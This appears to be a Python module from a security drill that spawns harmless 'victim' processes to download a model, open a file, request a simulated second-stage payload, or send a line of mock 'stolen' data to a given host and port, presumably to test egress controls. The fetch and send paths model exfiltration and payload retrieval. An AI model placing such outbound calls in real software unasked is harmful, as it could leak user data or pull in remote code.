"""What processes of victims and attackers do in the drill: one harmless act, in a process of its own.

``python -m registry_gate.drill.victim`` with one of

    download MODEL FOLDER    a tutorial's download, from the hub of HF_ENDPOINT
    open FILE                opens a file as a program that loads it would
    fetch HOST PORT          asks for a second stage
    send HOST PORT           sends a line of data

Nothing that is fetched or opened is parsed, imported or run.
"""

from __future__ import annotations

import socket
import sys
from pathlib import Path

SECOND_STAGE = b"GET /attacker/second-stage/resolve/main/next.py HTTP/1.0\r\nHost: hub\r\n\r\n"
STOLEN = b"input=what-a-customer-asked&answer=8\n"
_SECONDS = 5


def download(model: str, folder: str) -> None:
    """The line of the tutorial."""
    from huggingface_hub import snapshot_download

    snapshot_download(model, local_dir=folder)


def open_file(path: str) -> None:
    """Open a file for reading and read a byte of it."""
    with Path(path).open("rb") as file:
        file.read(1)


def reach_out(host: str, port: int, message: bytes) -> bytes:
    """Connect, send, and return what comes back. Raises OSError where there is no way out."""
    with socket.create_connection((host, port), timeout=_SECONDS) as connection:
        connection.sendall(message)
        connection.shutdown(socket.SHUT_WR)
        return connection.recv(4096)


def main(arguments: list[str]) -> int:
    """Do the one act asked for; whatever refuses it ends the process."""
    act, *rest = arguments
    if act == "download":
        download(*rest)
    elif act == "open":
        open_file(*rest)
    else:
        reach_out(rest[0], int(rest[1]), SECOND_STAGE if act == "fetch" else STOLEN)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
